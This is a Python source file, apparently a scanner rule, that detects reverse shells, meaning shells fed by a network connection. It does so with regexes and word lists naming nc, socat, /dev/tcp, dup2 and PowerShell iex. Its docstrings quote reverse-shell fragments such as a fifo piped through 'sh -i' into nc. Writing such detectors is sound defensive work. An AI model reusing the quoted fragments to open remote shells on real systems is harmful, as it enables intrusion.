"""``pipe-to-shell`` without a file or a pipe: a shell whose input is a connection runs what the other end sends.

On a command line the program that connects is told to run a shell, or a shell reads bash's own sockets. In a program three things
come together: a connection, a shell that is started without a script, and what joins the two (``dup2``, ``.pipe(``, ``stdin=``).
"""

from __future__ import annotations

import re
from bisect import bisect_left
from collections.abc import Iterator
from itertools import pairwise
from typing import Final

from rye.text.facts import interpreters, shell
from rye.text.facts.calls.resolved import resolved
from rye.text.facts.fact import CAUTION, PIPE_TO_SHELL
from rye.text.facts.shell import shown
from rye.text.facts.source import Line, RuleMatch, Source
from rye.text.facts.tables import triggers, word_set

_SOCKET = re.compile(r"/(?:dev|inet\d?)/(?:tcp|udp)/[^\s/]{1,255}/[\w${}]{1,40}(?:/[\w${}]{1,40})?")
_READS_SOCKET = re.compile(r"\b(?:sh|bash|zsh|exec|eval|cat|source|getline)\b")
#: zsh's connections, and a shell that gets one as its input.
_ZTCP = re.compile(r"\bztcp\s+(?:-\w\s+)?\S{1,100}\s+\d{1,5}\b[^\n]{0,200}\b(?:ba|z)?sh\b[^\n]{0,40}[<>]&\s?\$")
#: A shell that opens a connection and does nothing with it, to see whether a port answers.
_TRIES = re.compile(r"\b(?:ba|z|k)?sh\s+-l?c\s+(?:(?::|true|echo)\s*)?\d?[^\w\s/]{1,2}\s?(?=/dev/tcp/)")
_CONNECTORS: Final = word_set("nc ncat netcat socat openssl telnet cryptcat pwncat websocat rlwrap")
_SHELLS: Final = word_set("sh bash zsh dash ksh fish ash cmd powershell pwsh")
_NC_RUNS = re.compile(r"-[a-z]*[ec]|--(?:sh-)?exec")
_WORDS = triggers(("tcp", "udp", "nc", "ncat", "netcat", "socat", "openssl", "telnet", "cryptcat", "websocat", "ztcp"))
_CONNECTION_WORDS = triggers(
    "socket net tls connect create_connection tcpsocket fsockopen stream_socket_client dial tcpstream "
    "tcpclient sockets websocket "
    "pfsockopen open_connection"
)
_CONNECTS = re.compile(
    r"\bcreate_connection\(|\.connect(?:_ex)?\(\s*[\[(]|\b(?:net|tls)\.(?:connect|createConnection)\(|\bnew\s+(?:net\.)?Socket\(|"
    r"(?<![\w.])connect\(\s*(?:\d|\{|[\w.]{1,30}\s*,\s*[\"'(\w])|\bTCPSocket\.(?:new|open)\b|\bp?fsockopen\(|\bstream_socket_client\(|\bIO::Socket|\bconnect\(\s*[A-Z$]|"
    r"\b(?:net|tls)\.Dial\(|\bTcpStream::connect|\b(?:TCPClient|TcpClient)\b|\bWebSocket\(|\bopen_connection\(|\bsocket\.tcp\(|\bgen_tcp\b",
)
_A_SHELL: Final = r"[\"'`](?:/[\w./]{0,20}/)?(?:sh|bash|zsh|dash|ksh|ash|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)"
_INTERACTIVE: Final = r"(?:\s+-?-?(?:[il]{1,3}|login|noprofile|nop))?(?:\s+[<>\d&\s-]{2,40})?[\"'`]"
_STARTS_SHELL = re.compile(
    rf"\b(?:spawn|exec\w{{0,8}}|Popen|popen\d?|call|run|check_call|check_output|proc_open|capture\w{{0,3}}|system|shell_exec|Command|ProcessBuilder|fork|"
    rf"create_subprocess_exec|start|FileName)\s{{0,2}}(?:::new)?[=(\s]\s*(?:new\s+String\[\]\s*)?[\[{{(]{{0,2}}\s*{_A_SHELL}{_INTERACTIVE}\s*(?:,\s*[\[{{]?\s*(?:[\"']-?-?[a-z]{{1,9}}[\"']\s*,?\s*){{0,2}}[\]}}]?|[\])}};,]|$)",
)
_JOINS = re.compile(
    r"\bdup2?\(|\.pipe\(|\bstdin\s*[=:]|\.Stdin\b|\bfileno\b|getOutputStream|StandardInput|\breopen\b|\bstdio\s*:|<&|>&|\bSTDIN\b|stdin\.write|"
    r"\.GetStream\(|\bio\.Copy\b|descriptorspec|array\(\s*0\s*=>|\b0\s*=>\s*\$|\.communicate\(|\b[Rr]edirect\w*[Ii]nput\b",
)
_NEAR: Final = 1_500
_NEAR_IN_PAGE: Final = 500
"""How many characters can lie between a connection and the shell that it feeds."""
#: A program's input becomes a connection: ``os.dup2(s.fileno(), 0)``.
_BECOMES_INPUT = re.compile(r"\bdup2\(\s*\w{1,40}(?:\.fileno\(\))?\s*,\s*(?:0|\w{1,30})\s*\)[^\n]{0,200}")
#: PowerShell runs what a connection brings.
_RUNS_RECEIVED = re.compile(r"\b(?:iex|Invoke-Expression|cmd(?:\.exe)?\s/c)\s[^\n]{0,200}", re.IGNORECASE)
#: Code on a command line.
_ONE_LINER = re.compile(
    r"\b(?:python[\d.]*|perl|ruby|php|node|lua)\s(?:-\w{1,20}\s){0,3}-\w{0,3}[ceEr]\s?[\"']|\b[gm]?awk\s[^\n]{0,20}[\"']BEGIN\b"
)
_SHELL_NAMED = re.compile(rf"{_A_SHELL}\b")


def find(source: Source) -> Iterator[RuleMatch]:
    """Yield every place where a shell gets a connection as its input."""
    if source.has(_WORDS):
        yield from _in_commands(source)
    program = resolved(source)
    if program.has(_CONNECTION_WORDS):
        yield from _in_programs(program)


def _in_programs(source: Source) -> Iterator[RuleMatch]:
    text = source.text
    starts = source.text_starts
    connections = [
        match.start()
        for number in source.lines_with(_CONNECTION_WORDS)
        for match in _CONNECTS.finditer(text, starts[number], starts[number + 1])
    ]
    joins = [match.start() for match in _JOINS.finditer(text)] if connections else []
    if not joins:
        return
    lines: set[int] = set()
    near = _NEAR_IN_PAGE if source.markdown else _NEAR
    for pattern in (_BECOMES_INPUT, _STARTS_SHELL, _RUNS_RECEIVED):
        for match in pattern.finditer(text):
            if not (_is_near(connections, match.start(), near) and _is_near(joins, match.start(), near)):
                continue
            if pattern is _RUNS_RECEIVED and ".GetStream(" not in text:
                continue
            if pattern is _BECOMES_INPUT and _SHELL_NAMED.search(text, match.start(), match.start() + _NEAR) is None:
                continue
            line = source.line_at(match.start())
            level = CAUTION if source.markdown and _stands_alone(source, connections, match) else ""
            if line not in lines:
                lines.add(line)
                yield RuleMatch(PIPE_TO_SHELL, shown(match[0]), line, match.start() - source.text_starts[line], level)


def _stands_alone(source: Source, connections: list[int], match: re.Match[str]) -> bool:
    """Whether code on a command line starts a shell without a connection of its own: what else a page holds is another one."""
    line = source.line_at(match.start())
    begin, end = source.text_starts[line], source.text_starts[line] + len(source.lines[line])
    return _ONE_LINER.search(source.text, begin, match.start()) is not None and not any(
        begin <= at < end for at in connections
    )


def _is_near(offsets: list[int], offset: int, near: int) -> bool:
    at = bisect_left(offsets, offset - near)
    return at < len(offsets) and offsets[at] <= offset + near


def _in_commands(source: Source) -> Iterator[RuleMatch]:
    for line in source.logical_lines(_WORDS):
        text = line.text
        match = _ZTCP.search(text)
        if match is not None:
            yield RuleMatch(PIPE_TO_SHELL, shown(match[0]), *source.place(line, match.start(), "ztcp"))
            continue
        match = _SOCKET.search(text)
        if match is not None and _READS_SOCKET.search(_TRIES.sub("", text)):
            saved = _ONLY_READ.search(text) is not None or _is_only_saved(source, line)
            level = CAUTION if saved or _OWN_MACHINE.match(match[0]) is not None else ""
            yield RuleMatch(PIPE_TO_SHELL, match[0], *source.place(line, match.start(), match[0][:5]), level)
            continue
        for commands in source.commands(line):
            for command, _ in commands:
                names = [shell.program(word.text) for word in command.words]
                index = next((at for at, name in enumerate(names) if name in _CONNECTORS), -1)
                if index >= 0 and (_hands_over(command.texts()[index + 1 :]) or _answers(command)):
                    place = source.place(line, command.start, names[index])
                    value = shown(" ".join(word.text for word in command.words[index:]))
                    yield RuleMatch(PIPE_TO_SHELL, value, *place)


def _is_only_saved(source: Source, line: Line) -> bool:
    """Whether a connection is opened by a number, and what it brings goes through ``cat`` to nothing or a file."""
    opened = _OPENS.search(line.text)
    if opened is None:
        opened = _OPENED.search(line.text)
        return opened is not None and opened[1] not in _descriptors(source)
    following = source.lines[line.first + 1 : line.first + _LOOKED_AT]
    reads = [raw for raw in following if re.search(rf"<\s?&\s?{opened[1]}\b", raw) is not None]
    return bool(reads) and all(_CATS.fullmatch(raw) is not None for raw in reads)


def _descriptors(source: Source) -> set[str]:
    """The numbers that a file reads from or writes to, as ``<&3`` and ``/dev/fd/3``. Computed once."""
    known: set[str] | None = source.kept.get("descriptors")
    if known is None:
        known = source.kept["descriptors"] = {match[1] for match in _DESCRIPTOR.finditer(source.text)}
    return known


_DESCRIPTOR = re.compile(r"(?:[<>]&\s?|/dev/fd/|-u\s?)(\d{1,2})\b")
#: ``cat < /dev/tcp/HOST/PORT > FILE``.
_ONLY_READ = re.compile(r"^[ \t]*cat\s?<\s?/dev/tcp/[^\s|;&]{1,300}\s?>\s?[^\s|;&()]{1,200}[ \t]*$")
_OPENS = re.compile(r"^[ \t]*exec\s(\d{1,2})<>\s?/dev/tcp/[^\s|;&]{1,300}[ \t]*$")
#: A connection that is opened by a number somewhere in a command.
_OPENED = re.compile(r"\bexec\s(\d{1,2})<>\s?/dev/tcp/")
_OWN_MACHINE = re.compile(r"/dev/(?:tcp|udp)/(?:127\.\d|localhost/)")
_CATS = re.compile(r"[ \t]*cat\s?<\s?&\s?\d{1,2}(?:\s?>\s?[^\s|;&()]{1,200})?[ \t]*")
_LOOKED_AT: Final = 8


def _answers(command: shell.Command) -> bool:
    """Whether a connection gets the output of a shell that itself reads a pipe: ``cat fifo | sh -i | nc host 4444 > fifo``."""
    before = command.before
    if before is None or not before.words or (before.before is None and not before.reads):
        return False
    at = interpreters.position(before)
    if any(interpreters.takes_code(word.text) for word in before.words[at + 1 :]):
        return False  # ``xargs sh -c "echo | nc host {}"``: the code is what the shell runs
    return at >= 0 and shell.program(before.words[at].text) in _SHELLS and interpreters.runs_stdin(before)


_RUNS_INPUT = re.compile(r"\$|\b(?:(?:ba|z|da|k)?sh|cmd|powershell|pwsh|eval|source|exec|read)\b")


def _answers_itself(arguments: list[str]) -> bool:
    """Whether a shell gets code of its own, which does not run what the connection brings: ``SYSTEM:"bash -c answer"``."""
    return arguments[:1] in (["-c"], ["-lc"]) and _RUNS_INPUT.search(" ".join(arguments[1:])) is None


def _hands_over(arguments: list[str]) -> bool:
    """Whether ``nc`` or a similar program connects a shell: ``-e sh``, ``EXEC:sh``."""
    return any(
        ("exec:" in argument.lower() or "system:" in argument.lower())
        and _names_shell(argument)
        and not _answers_itself(arguments[at + 1 :])
        for at, argument in enumerate(arguments)
    ) or any(
        _NC_RUNS.fullmatch(option) and shell.program(program) in _SHELLS for option, program in pairwise(arguments)
    )


def _names_shell(argument: str) -> bool:
    return (
        any(shell.program(part) in _SHELLS for part in argument.replace(",", ":").replace("'", "").split(":"))
        or "$" in argument
    )
